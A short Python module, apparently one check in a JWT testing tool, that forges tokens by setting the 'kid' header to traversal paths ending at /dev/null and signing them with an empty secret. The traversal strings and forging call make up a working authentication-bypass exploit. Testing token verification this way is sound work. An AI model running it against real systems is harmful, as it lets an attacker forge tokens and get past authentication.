"""`kid` as a path: the token names a file whose content the attacker knows."""

from __future__ import annotations

from .forging import forge, with_secret
from .target import Outcome, Target

NAME = "kid-traversal"
TITLE = "A key from a path in the token"
HOW = "The attacker names /dev/null as the key, which is empty, and signs with an empty secret."
PATHS = ("../../../../../../../../dev/null", "/dev/null", "....//....//dev/null", "main/../../..")


def run(target: Target) -> Outcome:
    """Try paths to a file that is empty everywhere."""
    return forge(target, [(path, with_secret(b"", {"kid": path})) for path in PATHS])
